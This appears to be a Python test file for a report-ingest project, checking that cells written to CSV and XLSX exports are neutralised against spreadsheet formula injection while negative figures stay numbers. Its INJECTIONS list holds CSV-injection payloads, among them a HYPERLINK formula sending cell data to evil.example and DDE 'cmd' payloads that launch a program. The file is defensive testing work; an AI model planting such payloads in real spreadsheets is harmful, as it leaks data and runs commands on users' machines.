"""Formula-like text written by the project is shown by spreadsheet programs, never run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.parse import parse_file
from ingest.safe_text import FORMULA_TRIGGERS, formula_like, looks_like_number, neutralise_cell
from ingest.sample.writers import (
    Block,
    CsvDialect,
    Row,
    WorkbookReport,
    csv_bytes,
    workbook_bytes,
)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
HARMLESS = ["Huyện Bảo Thắng", "Phòng THADS khu vực 1", "", "12a", " =1+1", "'=1+1", "Xã A-B"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert formula_like(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", ["-3", "-1.234", "-1.234,5", "+5", "−7", "-89,68%", "- 12"])
def test_negative_numbers_written_as_text_stay_numbers(text: str) -> None:
    assert looks_like_number(text)
    assert neutralise_cell(text) == text


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=40))
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    out = neutralise_cell(text)
    assert out in (text, "'" + text)
    assert not out.startswith(FORMULA_TRIGGERS) or looks_like_number(out)
    assert neutralise_cell(out) == out  # a second pass changes nothing


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=-(10**15), max_value=10**15))
def test_every_integer_as_text_is_left_alone(n: int) -> None:
    for text in (str(n), f"{n:,}".replace(",", ".")):
        assert neutralise_cell(text) == text


def _report(labels: list[str]) -> WorkbookReport:
    counts = {"sessions": 3, "attendees": 40, "documents": 5, "legal_reporters": 1,
              "legal_propagandists": 2}
    rows = tuple(Row(label, counts) for label in labels)
    total = Row("Tổng cộng", {k: v * len(labels) for k, v in counts.items()}, is_total=True)
    return WorkbookReport(unit_name="Sở Tư pháp tỉnh Lào Cai", unit_code="STP-10", year=2022,
                          report_date=date(2022, 11, 15),
                          blocks=(Block("PBGDPL", (*rows, total)),))


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _text_cells(sheet_xml: bytes) -> dict[str, list[ElementTree.Element]]:
    """Inline-string cells of a worksheet by their text (openpyxl writes inline strings)."""
    cells: dict[str, list[ElementTree.Element]] = {}
    for cell in ElementTree.fromstring(sheet_xml).iter(f"{{{NS['m']}}}c"):
        text = "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t"))
        if text:
            cells.setdefault(text, []).append(cell)
    return cells


@pytest.mark.parametrize("write_only", [False, True])
def test_sample_workbooks_store_formula_like_names_as_quoted_text(tmp_path: Path,
                                                                  write_only: bool) -> None:
    labels = [name for name in INJECTIONS if not name.startswith(("\t", "\r"))]
    data = workbook_bytes(_report(labels), write_only=write_only)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        styles = archive.read("xl/styles.xml")
    # No formula anywhere: every injected name is a string cell whose style has quotePrefix.
    root = ElementTree.fromstring(sheet)
    assert not list(root.iter(f"{{{NS['m']}}}f"))
    xfs = ElementTree.fromstring(styles).find("m:cellXfs", NS).findall("m:xf", NS)
    cells = _text_cells(sheet)
    for label in labels:
        assert label in cells, label
        for cell in cells[label]:
            assert cell.get("t") in ("inlineStr", "s"), ElementTree.tostring(cell)
            assert xfs[int(cell.get("s", "0"))].get("quotePrefix") == "1", label
    assert all(xfs[int(c.get("s", "0"))].get("quotePrefix") != "1"
               for text, found in cells.items() if not formula_like(text) for c in found)
    # The loader reads the exact text back: nothing was prefixed into the data.
    path = tmp_path / "r.xlsx"
    path.write_bytes(data)
    result = parse_file(path)
    assert result.rejection is None, result.rejection
    names = [v.subunit for v in result.submissions[0].values if v.indicator == "sessions"]
    assert names[: len(labels)] == labels


def test_sample_csv_neutralises_text_but_keeps_negative_figures() -> None:
    report = _report(["=HYPERLINK(\"x\")", "@SUM(1)", "Huyện Bát Xát"])
    data = csv_bytes("STP-10", 2022, report.blocks, CsvDialect(),
                     overrides={("PBGDPL", 2, "sessions"): "-3"})
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    subunits = {row[3] for row in rows[1:]}
    assert {"'=HYPERLINK(\"x\")", "'@SUM(1)", "Huyện Bát Xát", ""} == subunits
    values = [row[5] for row in rows[1:] if row[3] == "Huyện Bát Xát" and row[4] == "sessions"]
    assert values == ["-3"]  # a negative figure is data, not a formula
    for row in rows:
        for field in row:
            assert not formula_like(field), field
